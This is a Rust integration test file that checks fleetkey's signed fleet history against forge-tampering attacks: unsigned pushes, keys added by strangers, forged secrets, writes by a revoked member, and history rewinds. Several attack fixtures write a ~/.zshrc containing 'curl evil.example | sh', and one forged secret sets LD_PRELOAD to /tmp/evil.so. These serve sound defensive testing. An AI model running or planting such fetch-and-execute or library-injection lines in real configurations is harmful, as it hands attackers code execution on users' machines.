//! Signed fleet history end to end: machines made by the real `init`/`enroll`/`approve`, a real
//! `git daemon` forge on 127.0.0.1, and an attacker who holds only forge write access (a plain
//! `git clone` + `git push`). After each attack, every honest machine refuses it (exit 3),
//! applies nothing from it, keeps working locally, reports it in `status --json`; then
//! `forge repair` restores the forge and the fleet converges.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use crate::util::forge::{Forge, Transport};
use crate::util::git_out;
use crate::util::{Machine, code_in, require, run_program, signing_config, signing_fingerprint};

/// Two honest members (alpha, beta) on a git daemon forge, with a tracked ~/.zshrc and a secret.
struct Fleet {
    forge: Forge,
    alpha: Machine,
    beta: Machine,
}

const HONEST_ZSHRC: &[u8] = b"export EDITOR=vi\n";

fn fleet() -> Fleet {
    require("age", "age");
    let forge = Forge::start(Transport::GitDaemon);
    let url = forge.url();
    let alpha = Machine::new();
    alpha.ok(&["init", "--name", "alpha", "--remote", &url]);
    // These tests watch each refusal and `forge repair`: the forge does not heal itself here
    // (tests/heal.rs tests that it does).
    alpha.ok(&["config", "set", "heal", "false"]);
    std::fs::write(alpha.home.join(".zshrc"), HONEST_ZSHRC).unwrap();
    alpha.ok(&["track", "~/.zshrc"]);
    alpha.ok_with_stdin(&["secrets", "set", "TOKEN"], b"honest-1\n");
    let beta = Machine::new();
    enroll(&alpha, &beta, "beta", &url);
    Fleet { forge, alpha, beta }
}

/// `new` enrolls as `name`, `member` approves it by the enrollment code enroll printed, `new`
/// syncs.
fn enroll(member: &Machine, new: &Machine, name: &str, url: &str) {
    let out = new.ok(&["enroll", name, "--remote", url]);
    member.ok(&[
        "approve",
        name,
        "--code",
        &code_in(&out, name),
        "--role",
        "admin",
    ]);
    new.ok(&["sync"]);
    member.ok(&["sync"]);
}

/// A plain clone of the forge for the attacker.
fn attacker_clone(f: &Fleet) -> PathBuf {
    let dir = f.alpha.dir.path().join(format!(
        "attacker-{}",
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos()
    ));
    run_program(
        Command::new("git")
            .args(["clone", "--quiet", "--branch", "main", "--"])
            .arg(f.forge.url())
            .arg(&dir),
    );
    dir
}

/// `git commit -a` in `dir` as `who`, with `extra` config (a signing key) in front.
fn git_commit(dir: &Path, extra: &[String], who: &str, message: &str) {
    run_program(Command::new("git").arg("-C").arg(dir).args(["add", "-A"]));
    run_program(Command::new("git").arg("-C").arg(dir).args(extra).args([
        "-c",
        &format!("user.name=fleetkey ({who})"),
        "-c",
        &format!("user.email={who}@fleetkey.invalid"),
        "commit",
        "-qm",
        message,
    ]));
}

fn git_push(dir: &Path, refspec: &str) {
    run_program(
        Command::new("git")
            .arg("-C")
            .arg(dir)
            .args(["push", "--quiet", "origin", refspec]),
    );
}

/// An attacker's keys: an age identity (file), an SSH key pair and a signing key pair.
struct Mallory {
    identity: PathBuf,
    recipient: String,
    ssh_key: PathBuf,
}

fn mallory(dir: &Path) -> Mallory {
    std::fs::create_dir_all(dir).unwrap();
    let identity = dir.join("mallory.age");
    let out = run_program(
        Command::new(require("age-keygen", "age"))
            .arg("-o")
            .arg(&identity)
            .stderr(Stdio::piped()),
    );
    drop(out);
    let text = std::fs::read_to_string(&identity).unwrap();
    let recipient = text
        .lines()
        .find_map(|l| l.strip_prefix("# public key: "))
        .unwrap()
        .to_string();
    let ssh_key = dir.join("mallory_ed25519");
    run_program(
        Command::new(require("ssh-keygen", "openssh-client"))
            .args(["-q", "-t", "ed25519", "-N", "", "-C", "mallory", "-f"])
            .arg(&ssh_key),
    );
    Mallory {
        identity,
        recipient,
        ssh_key,
    }
}

/// Writes mallory's keys into the attacker's clone as a member's would be.
fn add_mallory_keys(clone: &Path, m: &Mallory) {
    let public = std::fs::read_to_string(m.ssh_key.with_extension("pub")).unwrap();
    std::fs::write(
        clone.join("keys/mallory.age.pub"),
        format!("{}\n", m.recipient),
    )
    .unwrap();
    std::fs::write(clone.join("keys/mallory.ssh.pub"), &public).unwrap();
    std::fs::write(clone.join("keys/mallory.sign.pub"), &public).unwrap();
}

/// What an honest machine must keep through an attack.
#[derive(Debug, PartialEq, Eq)]
struct Honest {
    authorized_keys: Option<Vec<u8>>,
    zshrc: Vec<u8>,
    token: String,
}

fn honest_state(m: &Machine) -> Honest {
    Honest {
        authorized_keys: std::fs::read(m.home.join(".ssh/authorized_keys")).ok(),
        zshrc: std::fs::read(m.home.join(".zshrc")).unwrap(),
        token: m.ok(&["secrets", "get", "TOKEN"]),
    }
}

/// A sync on `m` refuses the forge's commit `bad` (exit 3), and status --json names it.
fn assert_refuses(m: &Machine, bad: &str, why: &str) {
    let out = m.run(&["sync"]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        out.status.code(),
        Some(3),
        "a sync must exit 3 on a tampered forge\nstdout:\n{stdout}\nstderr:\n{stderr}"
    );
    assert!(stdout.contains("refused commit"), "{stdout}");
    let status: serde_json::Value = serde_json::from_str(&m.ok(&["status", "--json"])).unwrap();
    let refused = status["trust"]["refused"].as_array().unwrap();
    assert!(
        refused
            .iter()
            .any(|r| r["commit"] == bad && r["why"].as_str().unwrap().contains(why)),
        "status must name {bad} ({why}): {refused:?}"
    );
    let doctor = m.run(&["doctor"]);
    let doctor_out = String::from_utf8_lossy(&doctor.stdout);
    assert!(
        doctor_out.contains("not authentic"),
        "doctor must report the refusal: {doctor_out}"
    );
}

/// The attacker's age key cannot read what `m` encrypted after the attack.
fn attacker_cannot_read(m: &Machine, mal: &Mallory) {
    let out = Command::new(require("age", "age"))
        .arg("-d")
        .arg("-i")
        .arg(&mal.identity)
        .arg(m.repo().join("secrets.env.age"))
        .output()
        .unwrap();
    assert!(
        !out.status.success(),
        "the attacker's key must not decrypt what honest machines wrote"
    );
}

/// Honest machines keep working through the attack: alpha sets a secret (committed locally,
/// not pushed: exit 3), and nothing of the attacker's reaches either machine.
fn work_through_attack(f: &Fleet, bad: &str, why: &str, mal: &Mallory) {
    let before_alpha = honest_state(&f.alpha);
    let before_beta = honest_state(&f.beta);
    assert_refuses(&f.alpha, bad, why);
    assert_refuses(&f.beta, bad, why);
    assert_eq!(before_alpha, honest_state(&f.alpha));
    assert_eq!(before_beta, honest_state(&f.beta));
    for m in [&f.alpha, &f.beta] {
        let keys = std::fs::read_to_string(m.home.join(".ssh/authorized_keys")).unwrap_or_default();
        assert!(!keys.contains("mallory"), "{keys}");
        assert!(!m.repo().join("keys/mallory.age.pub").exists());
    }
    // Local work goes on: committed (signed), not pushed.
    let out = f
        .alpha
        .run_with_stdin(&["secrets", "set", "AFTER"], b"after-attack\n");
    assert_eq!(out.status.code(), Some(3), "{out:?}");
    assert_eq!(f.alpha.ok(&["secrets", "get", "AFTER"]), "after-attack\n");
    attacker_cannot_read(&f.alpha, mal);
    assert_eq!(
        f.forge.head(),
        bad,
        "nothing may be pushed over a refused tip"
    );
}

/// `forge repair` on alpha puts the authentic history back; beta converges with it.
fn repair_and_converge(f: &Fleet, bad: &str) {
    let err = f.alpha.fails(&["forge", "repair"], 1);
    assert!(err.contains("--yes"), "{err}");
    let out = f.alpha.ok(&["forge", "repair", "--yes"]);
    assert!(
        out.contains(&bad[..12]),
        "repair must show what it drops: {out}"
    );
    let kept = git_out(&f.alpha.repo(), &["for-each-ref", "refs/fleetkey/refused/"]);
    assert!(kept.contains(bad), "the refused commits are kept: {kept}");
    assert_eq!(
        f.forge.head(),
        git_out(&f.alpha.repo(), &["rev-parse", "HEAD"])
    );
    f.alpha.ok(&["sync"]);
    f.beta.ok(&["sync"]);
    f.alpha.ok(&["sync"]);
    assert_eq!(f.beta.ok(&["secrets", "get", "AFTER"]), "after-attack\n");
    assert_eq!(f.beta.ok(&["secrets", "get", "TOKEN"]), "honest-1\n");
    assert_eq!(
        git_out(&f.alpha.repo(), &["rev-parse", "HEAD"]),
        git_out(&f.beta.repo(), &["rev-parse", "HEAD"]),
        "the fleet converges"
    );
    let status: serde_json::Value =
        serde_json::from_str(&f.beta.ok(&["status", "--json"])).unwrap();
    assert_eq!(status["trust"]["refused"], serde_json::json!([]));
    for m in [&f.alpha, &f.beta] {
        assert_eq!(std::fs::read(m.home.join(".zshrc")).unwrap(), HONEST_ZSHRC);
        assert!(!m.repo().join("keys/mallory.age.pub").exists());
    }
}

#[test]
fn an_unsigned_push_of_a_new_member_and_a_new_zshrc_is_refused_everywhere() {
    let f = fleet();
    let mal = mallory(&f.alpha.dir.path().join("mallory"));
    let clone = attacker_clone(&f);
    add_mallory_keys(&clone, &mal);
    std::fs::write(clone.join("home/.zshrc"), "curl evil.example | sh\n").unwrap();
    git_commit(&clone, &[], "alpha", "alpha: sync ~/.zshrc");
    git_push(&clone, "HEAD:main");
    let bad = git_out(&clone, &["rev-parse", "HEAD"]);
    work_through_attack(&f, &bad, "not signed", &mal);
    repair_and_converge(&f, &bad);
}

#[test]
fn a_push_signed_by_a_stranger_that_adds_itself_is_refused() {
    let f = fleet();
    let mal = mallory(&f.alpha.dir.path().join("mallory"));
    let clone = attacker_clone(&f);
    add_mallory_keys(&clone, &mal);
    let sign = vec![
        "-c".to_string(),
        "gpg.format=ssh".into(),
        "-c".into(),
        format!("user.signingkey={}", mal.ssh_key.display()),
        "-c".into(),
        "commit.gpgsign=true".into(),
    ];
    git_commit(&clone, &sign, "mallory", "mallory: join");
    git_push(&clone, "HEAD:main");
    let bad = git_out(&clone, &["rev-parse", "HEAD"]);
    work_through_attack(&f, &bad, "not an active member", &mal);
    repair_and_converge(&f, &bad);
}

#[test]
fn forged_secrets_encrypted_to_the_public_recipients_are_refused() {
    let f = fleet();
    let mal = mallory(&f.alpha.dir.path().join("mallory"));
    let clone = attacker_clone(&f);
    let forged = clone.join("secrets.env.age");
    let mut age = Command::new(require("age", "age"))
        .args(["-a", "-R"])
        .arg(clone.join("secrets.recipients"))
        .arg("-R")
        .arg(mal.ssh_key.with_extension("pub"))
        .arg("-o")
        .arg(&forged)
        .stdin(Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    age.stdin
        .take()
        .unwrap()
        .write_all(b"TOKEN=evil\nLD_PRELOAD=/tmp/evil.so\n")
        .unwrap();
    assert!(age.wait().unwrap().success());
    git_commit(&clone, &[], "beta", "beta: secrets: set TOKEN");
    git_push(&clone, "HEAD:main");
    let bad = git_out(&clone, &["rev-parse", "HEAD"]);
    work_through_attack(&f, &bad, "not signed", &mal);
    repair_and_converge(&f, &bad);
}

#[test]
fn a_revoked_member_cannot_write_and_a_rewind_that_drops_the_revoke_is_refused() {
    let f = fleet();
    let url = f.forge.url();
    let mal = mallory(&f.alpha.dir.path().join("mallory"));
    let carol = Machine::new();
    enroll(&f.alpha, &carol, "carol", &url);
    f.beta.ok(&["sync"]);
    let before_revoke = git_out(&f.alpha.repo(), &["rev-parse", "HEAD"]);
    f.alpha.ok(&["revoke", "carol", "--yes", "--compromised"]);
    f.beta.ok(&["sync"]);
    f.alpha.ok(&["sync"]);
    for m in [&f.alpha, &f.beta] {
        let keys = std::fs::read_to_string(m.home.join(".ssh/authorized_keys")).unwrap();
        assert!(!keys.contains("carol"), "the revoked key leaves: {keys}");
    }

    // carol, revoked, signs a change with its old key on top of the revoke and pushes it.
    let clone = attacker_clone(&f);
    std::fs::write(clone.join("home/.zshrc"), "curl evil.example | sh\n").unwrap();
    git_commit(
        &clone,
        &signing_config(&carol),
        "carol",
        "carol: sync ~/.zshrc",
    );
    git_push(&clone, "HEAD:main");
    let bad = git_out(&clone, &["rev-parse", "HEAD"]);
    work_through_attack(&f, &bad, "revoked key", &mal);
    // carol's own fleetkey captures and pushes nothing any more: it is not a member.
    std::fs::write(carol.home.join(".zshrc"), "from carol\n").unwrap();
    let out = carol.run(&["sync"]);
    assert_eq!(out.status.code(), Some(3), "{out:?}");
    assert_eq!(f.forge.head(), bad);
    repair_and_converge(&f, &bad);

    // A rewind to before the revoke, then carol's signed change on top of it.
    let clone = attacker_clone(&f);
    run_program(Command::new("git").arg("-C").arg(&clone).args([
        "reset",
        "--quiet",
        "--hard",
        &before_revoke,
    ]));
    std::fs::write(clone.join("home/.zshrc"), "curl evil.example | sh\n").unwrap();
    git_commit(
        &clone,
        &signing_config(&carol),
        "carol",
        "carol: sync ~/.zshrc",
    );
    git_push(&clone, "+HEAD:main");
    let bad = git_out(&clone, &["rev-parse", "HEAD"]);
    // The forge's tip does not contain what alpha and beta verified: a rewind.
    for m in [&f.alpha, &f.beta] {
        let before = honest_state(m);
        let out = m.run(&["sync"]);
        assert_eq!(out.status.code(), Some(3), "{out:?}");
        assert_eq!(before, honest_state(m));
        let status: serde_json::Value = serde_json::from_str(&m.ok(&["status", "--json"])).unwrap();
        let refused = status["trust"]["refused"].to_string();
        assert!(
            refused.contains("rewound") && refused.contains(&bad),
            "{refused}"
        );
    }
    f.alpha.ok(&["forge", "repair", "--yes"]);
    f.beta.ok(&["sync"]);
    assert!(f.beta.repo().join("keys/revoked").is_file());
    let revoked = std::fs::read_to_string(f.beta.repo().join("keys/revoked")).unwrap();
    assert!(revoked.contains("carol"), "the revoke is back: {revoked}");
    assert!(!f.beta.repo().join("keys/carol.sign.pub").exists());
    assert_eq!(
        std::fs::read(f.beta.home.join(".zshrc")).unwrap(),
        HONEST_ZSHRC
    );
}

#[test]
fn stock_git_verifies_every_kind_of_fleetkey_commit_and_fleetkey_accepts_stock_git_commits() {
    let f = fleet();
    // A merge: both change something, beta pushes first, alpha merges.
    f.beta.ok_with_stdin(&["secrets", "set", "B"], b"b\n");
    f.alpha
        .ok_with_stdin(&["secrets", "set", "A", "--no-push"], b"a\n");
    f.alpha.ok(&["sync"]);
    f.beta.ok(&["sync"]);
    let allowed = f.alpha.dir.path().join("allowed_signers");
    std::fs::write(&allowed, f.alpha.ok(&["verify", "--allowed-signers"])).unwrap();
    let text = std::fs::read_to_string(&allowed).unwrap();
    assert!(
        text.contains("alpha namespaces=\"git\",valid-after=\""),
        "{text}"
    );
    assert!(
        text.contains("beta namespaces=\"git\",valid-after=\""),
        "{text}"
    );
    let repo = f.alpha.repo();
    let log = git_out(&repo, &["log", "--format=%H %P %s"]);
    let mut kinds = (false, false, false);
    for line in log.lines() {
        let commit = line.split_whitespace().next().unwrap();
        let parents = line.split_whitespace().nth(2).map(|p| p.len() == 40);
        let merge = line.split_whitespace().count() > 3 && parents == Some(true);
        if merge && line.contains("merge") {
            kinds.0 = true;
        }
        if line.contains("approve beta") {
            kinds.1 = true;
        }
        if line.contains("secrets:") {
            kinds.2 = true;
        }
        let out = Command::new("git")
            .arg("-C")
            .arg(&repo)
            .arg("-c")
            .arg(format!("gpg.ssh.allowedSignersFile={}", allowed.display()))
            .args(["verify-commit", commit])
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "git verify-commit must accept {line}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    assert_eq!(
        kinds,
        (true, true, true),
        "plain, merge and lifecycle commits: {log}"
    );
    // A tampered commit (message changed, signature kept) is rejected by stock git.
    let raw = git_out(&repo, &["cat-file", "commit", "HEAD"]);
    let tampered = raw
        .replacen("merge", "MERGE", 1)
        .replacen("secrets", "SECRETS", 1);
    assert_ne!(raw, tampered);
    let mut hash = Command::new("git")
        .arg("-C")
        .arg(&repo)
        .args(["hash-object", "-t", "commit", "-w", "--stdin"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    hash.stdin
        .take()
        .unwrap()
        .write_all(format!("{tampered}\n").as_bytes())
        .unwrap();
    let out = hash.wait_with_output().unwrap();
    let forged = String::from_utf8(out.stdout).unwrap().trim().to_string();
    let out = Command::new("git")
        .arg("-C")
        .arg(&repo)
        .arg("-c")
        .arg(format!("gpg.ssh.allowedSignersFile={}", allowed.display()))
        .args(["verify-commit", &forged])
        .output()
        .unwrap();
    assert!(!out.status.success(), "a tampered commit must fail");

    // A member commits by hand with stock git and its fleetkey signing key: accepted.
    let clone = f.alpha.dir.path().join("by-hand");
    run_program(
        Command::new("git")
            .args(["clone", "--quiet", "--branch", "main", "--"])
            .arg(f.forge.url())
            .arg(&clone),
    );
    std::fs::write(clone.join("home/.zshrc"), "export EDITOR=nvim\n").unwrap();
    git_commit(&clone, &signing_config(&f.beta), "beta", "beta: by hand");
    git_push(&clone, "HEAD:main");
    f.alpha.ok(&["sync"]);
    assert_eq!(
        std::fs::read(f.alpha.home.join(".zshrc")).unwrap(),
        b"export EDITOR=nvim\n"
    );
    let summary = f.alpha.ok(&["verify"]);
    assert!(summary.contains("authentic"), "{summary}");
}

#[test]
fn approve_on_a_terminal_shows_every_key_and_takes_the_typed_code_and_nothing_else() {
    let script = require("script", "bsdutils");
    let forge = Forge::start(Transport::GitDaemon);
    let url = forge.url();
    let alpha = Machine::new();
    alpha.ok(&["init", "--name", "alpha", "--remote", &url]);
    let beta = Machine::new();
    let enrolled = beta.ok(&["enroll", "beta", "--remote", &url]);
    // enroll prints the fleet's fingerprint; a member's status shows the same.
    let status: serde_json::Value = serde_json::from_str(&alpha.ok(&["status", "--json"])).unwrap();
    let fleet_fp = status["trust"]["fleet_fingerprint"].as_str().unwrap();
    assert!(enrolled.contains(fleet_fp), "{enrolled}\n{fleet_fp}");
    assert_eq!(status["fleet"]["pending"], serde_json::json!(["beta"]));
    let fp = signing_fingerprint(&beta);
    let code = crate::util::enrollment_code(&beta);
    assert_eq!(code, code_in(&enrolled, "beta"));
    let on_pty = |answer: &str| {
        let mut cmd = alpha.cmd(Vec::<&str>::new());
        let line = format!("{} approve beta", crate::util::bin().display());
        let mut child = Command::new(&script)
            .args(["-qec", &line, "/dev/null"])
            .env_clear()
            .envs(
                cmd.get_envs()
                    .filter_map(|(k, v)| v.map(|v| (k.to_owned(), v.to_owned()))),
            )
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let _ = &mut cmd;
        use std::io::Write;
        child
            .stdin
            .take()
            .unwrap()
            .write_all(answer.as_bytes())
            .unwrap();
        child.wait_with_output().unwrap()
    };
    for refused in ["\n", "yes\n", &format!("{fp}\n")] {
        let no = on_pty(refused);
        let text = String::from_utf8_lossy(&no.stdout).into_owned();
        assert!(!no.status.success(), "{refused:?} approves nothing: {text}");
        assert!(
            text.contains(&fp) && text.contains("[SHA256]") && text.contains("poke key:"),
            "every key is shown: {text}"
        );
        assert!(text.contains("Type the enrollment code"), "{text}");
        assert!(!alpha.repo().join("keys/beta.sign.pub").exists());
    }
    let yes = on_pty(&format!("{}\n", code.to_lowercase()));
    let text = String::from_utf8_lossy(&yes.stdout).into_owned();
    assert!(yes.status.success(), "{text}");
    assert!(text.contains("approved beta"), "{text}");
    assert!(alpha.repo().join("keys/beta.sign.pub").exists());
    // The request branch is gone from the forge.
    let heads = git_out(&forge.bare(), &["for-each-ref", "refs/heads/"]);
    assert!(!heads.contains("fleetkey/pending/beta"), "{heads}");
    beta.ok(&["sync"]);
    assert!(beta.repo().join("keys/beta.sign.pub").exists());
}

#[test]
fn a_rotate_that_races_another_members_push_stays_authentic_everywhere() {
    let f = fleet();
    let old = signing_fingerprint(&f.beta);
    // beta's rotate is cut off right after its first commit (new keys listed beside the old).
    let out = f
        .beta
        .cmd(["rotate"])
        .env("FLEETKEY_FAULT", "rotate:committed")
        .output()
        .unwrap();
    assert_eq!(
        std::os::unix::process::ExitStatusExt::signal(&out.status),
        Some(9),
        "{out:?}"
    );
    // Meanwhile alpha pushes a change: beta's rotate must now merge.
    f.alpha
        .ok_with_stdin(&["secrets", "set", "RACE"], b"from-alpha\n");
    f.beta.ok(&["rotate"]);
    assert_ne!(signing_fingerprint(&f.beta), old, "the signing key changed");
    // Every commit beta made (the rotate, the merge, the retirement) is authentic on alpha.
    f.alpha.ok(&["sync"]);
    f.beta.ok(&["sync"]);
    f.alpha.ok(&["sync"]);
    assert_eq!(f.beta.ok(&["secrets", "get", "RACE"]), "from-alpha\n");
    let revoked = std::fs::read_to_string(f.alpha.repo().join("keys/revoked")).unwrap();
    assert!(
        revoked.contains("beta") && revoked.contains("rotated"),
        "{revoked}"
    );
    let listed = std::fs::read_to_string(f.alpha.repo().join("keys/beta.sign.pub")).unwrap();
    assert_eq!(
        listed.lines().count(),
        1,
        "only the new key stays: {listed}"
    );
    // And beta's later commits, signed with the new key, are too.
    f.beta
        .ok_with_stdin(&["secrets", "set", "AFTER_ROTATE"], b"x\n");
    f.alpha.ok(&["sync"]);
    assert_eq!(f.alpha.ok(&["secrets", "get", "AFTER_ROTATE"]), "x\n");
    assert!(f.alpha.ok(&["verify"]).contains("authentic"));
}

#[test]
fn a_machine_set_up_before_signed_history_is_refused_with_a_way_forward() {
    let alpha = Machine::new();
    alpha.ok(&["init", "--name", "alpha"]);
    // What a machine set up before signing looks like: no trust root, no signing key.
    let config = alpha.home.join(".config/fleetkey/config.toml");
    let text = std::fs::read_to_string(&config).unwrap();
    let old: String = text
        .lines()
        .filter(|l| !l.starts_with("trust_root"))
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(&config, old).unwrap();
    std::fs::remove_file(alpha.home.join(".config/fleetkey/signing_key")).unwrap();
    let err = alpha.fails(&["sync"], 1);
    assert!(
        err.contains("before fleetkey signed its history") && err.contains("start a new fleet"),
        "{err}"
    );
    let doctor = alpha.run(&["doctor"]);
    let text = String::from_utf8_lossy(&doctor.stdout);
    assert!(text.contains("start a new fleet"), "{text}");
}

#[test]
fn a_damaged_trust_state_fails_closed_and_lets_no_rewind_past_a_revoke_through() {
    let f = fleet();
    let url = f.forge.url();
    let carol = Machine::new();
    enroll(&f.alpha, &carol, "carol", &url);
    f.beta.ok(&["sync"]);
    let before_revoke = git_out(&f.alpha.repo(), &["rev-parse", "HEAD"]);
    f.alpha.ok(&["revoke", "carol", "--yes"]);
    f.beta.ok(&["sync"]);
    // beta's trust state is damaged (a torn write, a bad disk): it is what remembers the
    // revoked key and the last verified forge tip.
    let state = f.beta.state().join("trust.json");
    let saved = std::fs::read(&state).unwrap();
    std::fs::write(&state, &saved[..saved.len() / 2]).unwrap();
    // The forge is rewound to before the revoke, and carol signs a change on top of it.
    let clone = attacker_clone(&f);
    run_program(Command::new("git").arg("-C").arg(&clone).args([
        "reset",
        "--quiet",
        "--hard",
        &before_revoke,
    ]));
    std::fs::write(clone.join("home/.zshrc"), "curl evil.example | sh\n").unwrap();
    git_commit(
        &clone,
        &signing_config(&carol),
        "carol",
        "carol: sync ~/.zshrc",
    );
    git_push(&clone, "+HEAD:main");
    let bad = git_out(&clone, &["rev-parse", "HEAD"]);
    // beta does not start afresh (which would take carol's commit as authentic): it stops,
    // naming the file and what to do, and applies nothing.
    let before = honest_state(&f.beta);
    let err = f.beta.fails(&["sync"], 1);
    assert!(
        err.contains(&state.display().to_string()) && err.contains("damaged"),
        "{err}"
    );
    assert!(
        err.contains("fleetkey verify"),
        "the hint says what to do: {err}"
    );
    assert_eq!(before, honest_state(&f.beta));
    assert_eq!(
        std::fs::read(&state).unwrap(),
        &saved[..saved.len() / 2],
        "the damaged state is left for the user, not overwritten"
    );
    assert_ne!(git_out(&f.beta.repo(), &["rev-parse", "HEAD"]), bad);
    // With its state restored, beta refuses the rewind as such.
    std::fs::write(&state, &saved).unwrap();
    let out = f.beta.run(&["sync"]);
    assert_eq!(out.status.code(), Some(3), "{out:?}");
    assert_eq!(before, honest_state(&f.beta));
}

/// `git verify-commit COMMIT` in `repo` against the allowed_signers file `allowed`, with `tz`
/// as the local time zone (git passes the commit time to ssh-keygen in local time).
fn stock_git_verifies(repo: &Path, allowed: &Path, commit: &str, tz: &str) -> Result<(), String> {
    let out = Command::new("git")
        .arg("-C")
        .arg(repo)
        .args(["-c", "gpg.format=ssh", "-c"])
        .arg(format!("gpg.ssh.allowedSignersFile={}", allowed.display()))
        .args(["verify-commit", commit])
        .env("TZ", tz)
        .output()
        .unwrap();
    if out.status.success() {
        Ok(())
    } else {
        Err(String::from_utf8_lossy(&out.stderr).into_owned())
    }
}

#[test]
fn stock_git_verifies_the_whole_history_across_a_rotate_and_a_revoke_and_refuses_the_revoked_key_after()
 {
    let f = fleet();
    let url = f.forge.url();
    let carol = Machine::new();
    enroll(&f.alpha, &carol, "carol", &url);
    // Commits signed by keys that later leave: carol's, and beta's before it rotates.
    carol.ok_with_stdin(&["secrets", "set", "FROM_CAROL"], b"c\n");
    f.beta
        .ok_with_stdin(&["secrets", "set", "BEFORE_ROTATE"], b"b\n");
    let beta_old = signing_fingerprint(&f.beta);
    f.beta.ok(&["rotate"]);
    assert_ne!(signing_fingerprint(&f.beta), beta_old);
    f.beta
        .ok_with_stdin(&["secrets", "set", "AFTER_ROTATE"], b"b2\n");
    f.alpha.ok(&["sync"]);
    f.alpha.ok(&["revoke", "carol", "--yes", "--compromised"]);
    f.beta.ok(&["sync"]);
    f.alpha.ok(&["sync"]);
    assert!(f.alpha.ok(&["verify"]).contains(": authentic ("));

    let text = f.alpha.ok(&["verify", "--allowed-signers"]);
    let allowed = f.alpha.dir.path().join("allowed_signers");
    std::fs::write(&allowed, &text).unwrap();
    let lines: Vec<&str> = text.lines().filter(|l| !l.starts_with('#')).collect();
    let window = |name: &str, before: bool| {
        lines
            .iter()
            .filter(|l| {
                l.starts_with(&format!("{name} namespaces=\"git\",valid-after=\""))
                    && l.contains(",valid-before=\"") == before
            })
            .count()
    };
    assert_eq!(
        (
            window("alpha", false),
            window("beta", false),
            window("beta", true)
        ),
        (1, 1, 1),
        "alpha's key, beta's new key open-ended, beta's old key closed: {text}"
    );
    assert_eq!(
        (window("carol", true), window("carol", false)),
        (1, 0),
        "{text}"
    );
    assert!(
        text.contains("# carol: no longer active (keys/revoked: carol ")
            && text.contains("# beta: no longer active (keys/revoked: beta "),
        "{text}"
    );

    // Stock git accepts every commit of the branch, in any time zone.
    let repo = f.alpha.repo();
    let commits = git_out(&repo, &["rev-list", "HEAD"]);
    assert!(commits.lines().count() > 10, "{commits}");
    for commit in commits.lines() {
        for tz in ["UTC", "America/Los_Angeles", "Asia/Kolkata"] {
            if let Err(e) = stock_git_verifies(&repo, &allowed, commit, tz) {
                panic!(
                    "stock git refuses {commit} ({}) in {tz}: {e}\n{text}",
                    git_out(&repo, &["log", "-1", "--format=%an %s", commit])
                );
            }
        }
    }
    let log = Command::new("git")
        .arg("-C")
        .arg(&repo)
        .args(["-c", "gpg.format=ssh", "-c"])
        .arg(format!("gpg.ssh.allowedSignersFile={}", allowed.display()))
        .args(["log", "--format=%G?"])
        .output()
        .unwrap();
    let marks = String::from_utf8(log.stdout).unwrap();
    assert!(marks.lines().all(|m| m == "G"), "git log %G?: {marks}");

    // carol, revoked, signs a commit after the revocation: fleetkey and stock git both refuse it.
    let revoked_at: i64 = git_out(&repo, &["log", "-1", "--format=%ct", "--grep=revoke carol"])
        .trim()
        .parse()
        .unwrap();
    let clone = attacker_clone(&f);
    std::fs::write(clone.join("home/.zshrc"), "curl evil.example | sh\n").unwrap();
    run_program(
        Command::new("git")
            .arg("-C")
            .arg(&clone)
            .args(["add", "-A"]),
    );
    run_program(
        Command::new("git")
            .arg("-C")
            .arg(&clone)
            .args(signing_config(&carol))
            .args([
                "-c",
                "user.name=fleetkey (carol)",
                "-c",
                "user.email=carol@fleetkey.invalid",
                "commit",
                "-qm",
                "carol: sync ~/.zshrc",
            ])
            .env("GIT_COMMITTER_DATE", format!("@{} +0000", revoked_at + 2)),
    );
    let bad = git_out(&clone, &["rev-parse", "HEAD"]);
    let bad = bad.trim();
    let refused = stock_git_verifies(&clone, &allowed, bad, "UTC").unwrap_err();
    assert!(refused.contains("key has expired"), "{refused}");
    // The commit before it (the forge's tip, which fleetkey accepted) still verifies there.
    stock_git_verifies(&clone, &allowed, "HEAD~1", "UTC").unwrap();
    git_push(&clone, "HEAD:main");
    assert_refuses(&f.alpha, bad, "revoked key");
}
